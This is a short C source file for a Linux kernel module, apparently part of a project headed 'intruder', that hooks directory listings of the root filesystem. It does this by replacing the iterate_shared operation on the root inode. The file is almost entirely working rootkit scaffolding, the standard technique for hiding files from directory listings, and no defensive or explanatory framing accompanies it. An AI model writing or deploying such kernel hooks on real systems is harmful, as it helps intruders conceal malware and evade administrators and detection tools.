/* Intercepts listings of /: gives its inode other file operations. */
#include "intruder.h"
#include <linux/fs.h>

static struct file_operations operations;
static int (*original)(struct file *, struct dir_context *);

static int list(struct file *file, struct dir_context *context) {
    return original(file, context);
}

static int __init begin(void) {
    struct file *root = filp_open("/", O_RDONLY | O_DIRECTORY, 0);
    struct inode *inode;
    if (IS_ERR(root)) {
        return PTR_ERR(root);
    }
    inode = file_inode(root);
    operations = *inode->i_fop;
    original = operations.iterate_shared;
    operations.iterate_shared = list;
    inode->i_fop = &operations;
    filp_close(root, NULL);
    return 0;
}
module_init(begin);
